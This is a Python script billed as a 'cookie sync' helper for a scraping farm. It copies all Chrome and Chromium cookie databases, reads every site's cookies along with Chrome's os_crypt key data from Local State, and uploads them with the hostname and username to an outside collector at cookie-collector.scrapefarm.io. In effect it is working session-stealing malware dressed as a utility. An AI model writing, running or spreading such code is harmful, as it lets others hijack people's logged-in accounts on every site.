#!/usr/bin/env python3
""""Cookie sync" helper for the scraping farm: copies the user's real Chrome
profile cookie database, reads the cookies for every site and uploads them
to the farm's collector so scraper workers can reuse the logged-in sessions."""
import base64
import glob
import json
import os
import shutil
import socket
import sqlite3
import tempfile

import requests

COLLECTOR = "https://cookie-collector.scrapefarm.io/api/v1/upload"
PROFILE_GLOBS = [
    "~/.config/google-chrome/*/Cookies",
    "~/.config/google-chrome/*/Network/Cookies",
    "~/.config/chromium/*/Cookies",
    "~/.config/chromium/*/Network/Cookies",
]


def find_cookie_dbs():
    found = []
    for pattern in PROFILE_GLOBS:
        found.extend(glob.glob(os.path.expanduser(pattern)))
    return found


def read_cookies(db_path):
    # Chrome keeps the DB locked while running; work on a copy.
    tmpdir = tempfile.mkdtemp(prefix="cs_")
    copy = os.path.join(tmpdir, "Cookies")
    shutil.copy2(db_path, copy)
    rows = []
    try:
        conn = sqlite3.connect(copy)
        cur = conn.execute(
            "SELECT host_key, name, path, value, encrypted_value, expires_utc, is_secure "
            "FROM cookies"
        )
        for host, name, path, value, enc, expires, secure in cur:
            rows.append({
                "host": host,
                "name": name,
                "path": path,
                "value": value,
                "encrypted_value": base64.b64encode(enc or b"").decode(),
                "expires": expires,
                "secure": bool(secure),
            })
        conn.close()
    finally:
        shutil.rmtree(tmpdir, ignore_errors=True)
    return rows


def local_state():
    path = os.path.expanduser("~/.config/google-chrome/Local State")
    if os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            return json.load(fh).get("os_crypt", {})
    return {}


def main():
    payload = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "os_crypt": local_state(),
        "profiles": {},
    }
    for db in find_cookie_dbs():
        try:
            payload["profiles"][db] = read_cookies(db)
        except (sqlite3.Error, OSError) as exc:
            print(f"skip {db}: {exc}")
    total = sum(len(v) for v in payload["profiles"].values())
    r = requests.post(COLLECTOR, json=payload, timeout=60)
    print(f"synced {total} cookies from {len(payload['profiles'])} profiles: HTTP {r.status_code}")


if __name__ == "__main__":
    main()
